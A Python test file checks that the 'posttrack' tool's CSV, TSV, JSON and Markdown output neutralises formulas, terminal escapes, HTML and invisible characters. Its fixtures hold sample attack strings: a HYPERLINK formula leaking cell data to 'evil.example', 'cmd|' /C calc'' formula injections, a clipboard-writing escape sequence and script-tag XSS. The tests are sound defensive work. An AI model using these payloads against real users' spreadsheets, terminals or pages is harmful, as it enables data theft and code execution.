"""No output format lets the data act on the program that reads it: no formula a
spreadsheet runs, no escape sequence a terminal obeys, no HTML a Markdown renderer
keeps, no invisible character in a message; and line formats go out in few writes."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import SHIPPED, Result, rewrite
from posttrack.output import columns, escape, formats, views

Cli = Callable[..., Result]

# what a spreadsheet runs: a cell starting so, or so after leading whitespace
FORMULA = re.compile(r"[=+\-@\t\r\n]|\s*[=+\-@]")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
# what must never reach a terminal raw (csv may carry tab and newline in a quoted field)
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e"
    "\u2060-\u206f\ufeff\U000e0000-\U000e007f]"
)

STANCE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click") \\e]52;c;aGk=\\a \\u202Eevil \\x9B31m'
SUMMARY = "+cmd|' /C calc'!A0 <img src=x onerror=alert(1)> & a;=1+1"
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0 <script>alert(1)</script>"
SOURCE = " -2+3+cmd|' /C calc'!A0 \\u200Bhidden"


@pytest.fixture
def hostile(dataset_copy: Callable[..., Path]) -> Path:
    """The mini dataset with formulas, escape sequences and HTML in its text."""
    copy = dataset_copy()
    rewrite(copy, "stance: Binding rules, politically or legally", f"stance: {json.dumps(STANCE)}")
    rewrite(copy, "summary: Wants binding rules.", f"summary: {json.dumps(SUMMARY)}")
    rewrite(copy, "title: Binding instrument", f"title: {json.dumps(TITLE)}")
    rewrite(copy, "title: Alpha Working Paper", f"title: {json.dumps(SOURCE)}")
    # YAML's own escapes were used above: the loaded text has the raw characters
    text = (copy / "positions.yaml").read_text(encoding="utf-8")
    (copy / "positions.yaml").write_text(text.replace("\\\\", "\\"), encoding="utf-8")
    return copy


COMMANDS = [
    ("export",),
    ("export", "--by", "quote"),
    ("show", "binding"),
    ("diff", "2020", "2022"),
    ("topics",),
    ("sources",),
    ("cite", "=1+1 <b>binding rules</b> \x1b]8;;http://x\x07"),
]


def _run(cli: Cli, data: Path, command: tuple[str, ...], fmt: str) -> Result:
    result = cli(*command, "--data", str(data), "-f", fmt)
    assert result.code in (0, 1), result.err  # cite finds nothing: 1
    return result


def _cells(out: str, fmt: str) -> list[str]:
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(out, newline="")))
    else:
        rows = [line.split("\t") for line in out.splitlines()]
    return [cell for row in rows[1:] for cell in row]


def _decode(cell: str) -> str:
    """A csv or tsv cell's text, as the render docstring says to undo it."""
    if cell.startswith("'"):
        cell = cell[1:]
    simple = {"\\": "\\", "t": "\t", "n": "\n", "r": "\r"}
    return re.sub(
        r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8})|(.))",
        lambda m: (
            chr(int(code, 16))
            if (code := m.group(1) or m.group(2) or m.group(3))
            else simple[m.group(4)]
        ),
        cell,
        flags=re.S,
    )


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_cell_is_a_formula_and_no_escape_is_raw(
    cli: Cli, hostile: Path, command: tuple[str, ...], fmt: str
) -> None:
    out = _run(cli, hostile, command, fmt).out
    cells = _cells(out, fmt)
    assert cells
    runnable = [c for c in cells if FORMULA.match(c) and not NUMBER.fullmatch(c)]
    assert runnable == []
    assert not RAW.search(out)
    quoted = [_decode(c) for c in cells if c.startswith("'")]
    if command[0] != "topics" and command[0] != "sources":
        assert any(c.startswith(("=", "+", "@", " -")) for c in quoted)


def test_the_attacks_are_written_neutral_and_come_back_exact(cli: Cli, hostile: Path) -> None:
    out = _run(cli, hostile, ("export",), "csv").out
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert row["stance"] == (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click") '
        "\\x1b]52;c;aGk=\\x07 \\u202eevil \\x9b31m"
    )
    assert row["summary"].startswith("'+cmd|")
    assert row["topic_title"].startswith("'@SUM")
    assert row["source_title"].startswith("' -2+3")
    stance = json.loads(_run(cli, hostile, ("export",), "json").out)["positions"][0]["stance"]
    assert _decode(row["stance"]) == stance
    assert "\x1b]52;" in stance  # the data did hold the raw sequence


def test_exact_cells_writes_the_data_as_it_is() -> None:
    records = [{"a": "=1+1", "b": "\x1b[31m", "c": "'x"}]
    listing = formats.Listing("rows", records, [formats.Column(k, k) for k in "abc"])
    stream = io.StringIO()
    formats.write_listing(listing, formats.Format.csv, stream, exact_cells=True)
    assert next(csv.DictReader(io.StringIO(stream.getvalue()))) == records[0]
    stream = io.StringIO()
    formats.write_listing(listing, formats.Format.tsv, stream, exact_cells=True)
    assert stream.getvalue().splitlines()[1] == "=1+1\t\x1b[31m\t'x"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1, "-1"),
        ("-1", "-1"),
        ("+2.5", "+2.5"),
        (0.93, "0.93"),
        ("-2+3", "'-2+3"),
        ("- item", "'- item"),
        ("  =SUM(A1)", "'  =SUM(A1)"),
        ("\t=1", "\\t=1"),  # tsv writes the tab as \t: the cell starts with a backslash
        ("@user", "'@user"),
        ("'quoted'", "''quoted'"),
        ("1-2", "1-2"),
        ("a = b", "a = b"),
    ],
)
def test_the_formula_rule_cell_by_cell(value: object, written: str) -> None:
    listing = formats.Listing("rows", [{"v": value}], [formats.Column("v", "v")])
    stream = io.StringIO()
    formats.write_listing(listing, formats.Format.tsv, stream)
    assert stream.getvalue() == f"v\n{written}\n"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("\t=1", '"\'\t=1"'),  # csv keeps the tab (quoted): the cell is neutralised
        ("\n@x", '"\'\n@x"'),
        ("\r=1", "\\r=1"),  # a carriage return is written \r: a backslash first
        ("x;=1+1", '"x;=1+1"'),  # quoted: a spreadsheet splitting at ; keeps one cell
        ("-1", "-1"),
    ],
)
def test_the_formula_rule_in_csv(value: str, written: str) -> None:
    listing = formats.Listing("rows", [{"v": value}], [formats.Column("v", "v")])
    stream = io.StringIO()
    formats.write_listing(listing, formats.Format.csv, stream)
    assert stream.getvalue() == f"v\n{written}\n"


TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(first=TEXT, second=TEXT)
def test_csv_and_tsv_cells_decode_to_the_exact_text(first: str, second: str) -> None:
    listing = formats.Listing(
        "rows", [{"a": first, "b": second}], [formats.Column("a", "a"), formats.Column("b", "b")]
    )
    for fmt in (formats.Format.csv, formats.Format.tsv):
        stream = io.StringIO()
        formats.write_listing(listing, fmt, stream)
        out = stream.getvalue()
        assert not RAW.search(out)
        cells = _cells(out, fmt.value)
        assert [_decode(c) for c in cells] == [first, second]
        assert not any(FORMULA.match(c) and not NUMBER.fullmatch(c) for c in cells)


@settings(max_examples=300, deadline=None)
@given(TEXT)
def test_json_escapes_what_a_terminal_obeys_and_keeps_the_text(text: str) -> None:
    out = formats.dump_json({"text": text})
    assert json.loads(out)["text"] == text
    assert not RAW.search(out)


@pytest.mark.parametrize(
    "text",
    [
        "é à ü ñ ß Ελληνικά Русский 漢字 日本語 한국어 עברית العربية",
        "e\u0301 a\u0308 क्षि",  # combining marks
        "می\u200cخواهم",  # Persian: a zero-width non-joiner between letters
        "👨\u200d👩\u200d👧 ❤\ufe0f\u200d🔥",  # emoji joined by zero-width joiners
        "“quoted” – dash … ellipsis",
    ],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape.safe(text) == text
    assert formats.dump_json({"t": text}) == json.dumps(
        {"schema_version": 1, "t": text}, ensure_ascii=False, indent=2
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("international-law\u200b", "international-law\\u200b"),
        ("\ufeffid", "\\ufeffid"),
        ("a\u2060b", "a\\u2060b"),
        ("law\u200d", "law\\u200d"),  # a joiner next to ASCII joins nothing
        ("\u200cx", "\\u200cx"),
        ("flag\U000e0067\U000e007f", "flag\\U000e0067\\U000e007f"),
        ("\x1b]52;c;aGk=\x07", "\\x1b]52;c;aGk=\\x07"),
    ],
)
def test_invisible_characters_are_shown(text: str, shown: str) -> None:
    assert escape.safe(text) == shown


def test_a_rejected_id_with_an_invisible_character_looks_invalid(
    cli: Cli, dataset_copy: Callable[..., Path]
) -> None:
    copy = dataset_copy()
    rewrite(copy, "  - id: norms", '  - id: "norms\\u200B"')
    result = cli("topics", "--data", str(copy))
    assert result.code == 2
    assert "'norms\\u200b'" in result.err
    assert "\u200b" not in result.err


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_markdown_escapes_html(cli: Cli, hostile: Path, command: tuple[str, ...]) -> None:
    out = _run(cli, hostile, command, "md").out
    assert "<" not in out
    # `>` only as the block quotation's own mark at a line's start
    assert ">" not in re.sub(r"(?m)^>", "", out)
    assert not RAW.search(out)
    if command[0] == "export":
        assert "&lt;img src=x onerror=alert(1)&gt; &amp; a;=1+1" in out
    if command[0] == "topics":
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out


# --- few writes -------------------------------------------------------------


class _Writes(io.StringIO):
    def __init__(self) -> None:
        super().__init__()
        self.sizes: list[int] = []

    def write(self, text: str) -> int:
        self.sizes.append(len(text))
        return super().write(text)


@pytest.mark.parametrize("fmt", ["plain", "csv", "tsv", "jsonl", "md", "json"])
def test_a_small_listing_is_one_write(fmt: str) -> None:
    rows = [{"id": f"topic-{i}", "title": f"Topic {i}"} for i in range(20)]
    listing = formats.Listing("topics", rows, columns.TOPIC_COLUMNS)
    stream = _Writes()
    formats.write_listing(listing, formats.Format(fmt), stream)
    assert len(stream.sizes) == 1


def test_a_large_listing_goes_out_in_bounded_pieces() -> None:
    rows = [{"id": f"topic-{i}", "title": "words " * 20} for i in range(10_000)]
    listing = formats.Listing("topics", rows, columns.TOPIC_COLUMNS)
    stream = _Writes()
    formats.write_listing(listing, formats.Format.plain, stream)
    total = sum(stream.sizes)
    assert total > 1_000_000
    assert len(stream.sizes) <= total // (64 * 1024) + 1
    assert max(stream.sizes) < 64 * 1024 + 200  # a piece, plus the line that filled it


def test_lines_and_citations_are_one_write() -> None:
    stream = _Writes()
    formats.write_lines([f"problem {i}" for i in range(50)], stream)
    assert len(stream.sizes) == 1
    match = {"path": "a.txt", "line": 1, "column": 1, "score": 100.0, "text": "words"}
    results = [{"query": "q", "verdict": "verbatim", "matches": [match] * 20}]
    for fmt in (formats.Format.plain, formats.Format.jsonl):
        stream = _Writes()
        views.write_citations(
            results, fmt, stream, state="", no_color=True, batch=True, min_score=80
        )
        assert len(stream.sizes) == 1


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("head") is None, reason="bash")
def test_head_under_pipefail_always_succeeds(tmp_path: Path) -> None:
    """`posttrack topics | head -1` under pipefail: the whole output is written before
    head exits, even unbuffered (PYTHONUNBUFFERED=1), so no write meets a closed pipe."""
    script = (
        "set -o pipefail; status=0; for i in 1 2 3 4 5 6 7 8 9 10; do "
        f'"$PYTHON" -m posttrack topics --data "{SHIPPED}" -f plain | head -1 >/dev/null '
        "|| status=$?; done; exit $status"
    )
    env = {**os.environ, "PYTHON": sys.executable, "PYTHONUNBUFFERED": "1"}
    run = subprocess.run(
        ["bash", "-c", script], check=False, env=env, capture_output=True, text=True
    )
    assert (run.returncode, run.stderr) == (0, "")


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=30,
)


@given(_JSON)
def test_pretty_json_is_the_standard_librarys_indented_json(value: object) -> None:
    from posttrack.output.formats import pretty_json

    assert pretty_json(value) == json.dumps(value, ensure_ascii=False, indent=2)


@given(st.text(alphabet="ab 1.)-+=>#*_`[]{}|~!$^&<>\\\n\t\u202e\u200d", max_size=30) | st.text())
def test_markdown_text_with_nothing_to_escape_is_written_as_is(value: str) -> None:
    """md_text skips the escaping passes where one search finds nothing to escape: it
    writes what they write."""
    text = " ".join(value.split())
    assert escape.md_text(value) == escape.safe(escape.md_escaped(text))


# the patterns as they were written first, with the joiners' rule in lookarounds:
# the oracle for the character classes and `escape.escaper` that replaced them
_LETTER = "[^\x00-\x7f\\s\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
_JOINERS = f"(?<!{_LETTER})[\u200c\u200d]|[\u200c\u200d](?!{_LETTER})"


@settings(max_examples=300)
@given(
    st.text(alphabet="a \u0628\u0915\u200c\u200d\u200b\x07\x7f\u202e\n\\😀\U000e0041") | st.text()
)
def test_escaping_keeps_a_joiner_only_between_letters(value: str) -> None:
    """The character classes and `escaper` write what the lookaround patterns wrote."""

    def old(pattern: str, replace: Callable[[str], str], text: str) -> str:
        return re.sub(pattern, lambda m: replace(m.group()), text)

    invisible = escape._INVISIBLE
    terminal = f"[\x00-\x1f{invisible}]|{_JOINERS}"
    assert escape.safe(value) == old(terminal, escape._visible, value)
    csv_pattern = f"[\x00-\x08\x0b\x0c\x0e-\x1f{invisible}]|{_JOINERS}"
    quoted = value.replace("\\", "\\\\").replace("\r", "\\r")  # as csv_text does first
    assert escape.csv_text(value) == old(csv_pattern, escape._visible, quoted)
    json_text = escape.regex(escape.JSON_UNSAFE).sub(escape.json_escaped, value)
    assert json_text == old(f"[{invisible}]|{_JOINERS}", escape.json_escape, value)
